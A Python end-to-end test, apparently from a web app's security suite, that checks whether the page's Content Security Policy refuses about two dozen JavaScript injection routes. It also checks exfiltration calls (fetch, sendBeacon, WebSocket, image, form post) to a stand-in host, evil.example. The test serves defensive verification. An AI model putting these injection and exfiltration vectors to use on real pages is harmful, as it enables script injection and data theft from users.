"""An attacker gets JavaScript to be made from text, loaded from elsewhere, or put in line."""

from tests.e2e.entries import only
from tests.e2e.person import Person
from tests.security.page.payloads import OWNED

# In timers, because what a driver evaluates by itself is not held to the page's policy.
WAYS = """async (owned) => {
  const code = `document.title = "${owned}"`;
  const element = (name, attributes) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return document.body.appendChild(made);
  };
  const ways = {
    eval: () => eval(code),
    indirect: () => (0, globalThis.eval)(code),
    Function: () => new Function(code)(),
    generator: () => new (Object.getPrototypeOf(function* () {}).constructor)(code)().next(),
    timer: () => setTimeout(code, 0),
    handler: () => element("b", { onclick: code }).click(),
    property: () => { const made = element("b", {}); made.onclick = code; made.click(); },
    link: () => element("a", { href: `javascript:${code}` }).click(),
    text: () => { element("script", {}).text = code; },
    inline: () => element("script", {}).append(code),
    src: () => { element("script", {}).src = `data:text/javascript,${code}`; },
    attribute: () => element("script", { src: `data:text/javascript,${code}` }),
    data: () => import(`data:text/javascript,${code}`),
    blob: () => import(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))),
    worker: () => new Worker(URL.createObjectURL(new Blob([code]))),
    fileInWorker: () => new Worker("/static/boot.js", { type: "module" }),
    frame: () => element("iframe", { src: `javascript:${code}` }),
    object: () => element("object", { data: "/index.html" }),
    base: () => { element("base", { href: "https://evil.example/" }); return document.baseURI; },
    style: () => element("b", { style: "background: url(https://evil.example/)" }),
    fetch: () => fetch("https://evil.example/"),
    image: () => { element("img", { src: "https://evil.example/x.png" }); },
    beacon: () => navigator.sendBeacon("https://evil.example/", "x"),
    socket: () => new WebSocket("wss://evil.example/"),
    form: () => {
      const form = element("form", { action: "https://evil.example/", method: "post" });
      form.submit();
    },
  };
  const outcomes = {};
  for (const [name, way] of Object.entries(ways))
    outcomes[name] = await new Promise((tell) =>
      setTimeout(async () => {
        try { await way(); tell("ignored"); } catch (error) { tell(error.name); }
      }, 0));
  await new Promise((wait) => setTimeout(wait, 200));
  return outcomes;
}"""
RAISED = {
    "eval": "EvalError",
    "indirect": "EvalError",
    "Function": "EvalError",
    "generator": "EvalError",
    "text": "TypeError",
    "src": "TypeError",
    "attribute": "TypeError",
    "data": "TypeError",
    "blob": "TypeError",
    "worker": "TypeError",
    "fileInWorker": "TypeError",
    "fetch": "TypeError",
}
DIRECTIVES = (
    "script-src",
    "script-src-elem",
    "script-src-attr",
    "require-trusted-types-for",
    "base-uri",
    "connect-src",
    "img-src",
    "form-action",
    "frame-src",
    "object-src",
    "style-src-attr",
    "worker-src",
)


@only("mpy")
def test_no_code_comes_of_text_or_from_elsewhere(person: Person) -> None:
    """Every way is refused by the policy, nothing leaves for a foreign origin, and the app works.

    The policy is the page's, whichever interpreter runs in it.
    """
    person.watch.expect_violations(
        *DIRECTIVES,
        said=("Content Security Policy", "Trusted", "Refused to", "violates", "Failed to fetch"),
    )
    person.open()
    outcomes = person.page.evaluate(WAYS, OWNED)
    assert {name: outcomes[name] for name in RAISED} == RAISED
    assert person.page.title() != OWNED
    assert person.page.evaluate("document.baseURI") == person.site.url("/")
    stopped = {one.split(" ")[0] for one in person.watch.violations()}
    assert {"require-trusted-types-for", "script-src-elem", "connect-src"} <= stopped
    # Not by the driver's own click, which waits for the end of the form's refused navigation.
    person.page.evaluate("document.getElementById('sign-in').click()")
    person.page.wait_for_url("**/login?*")
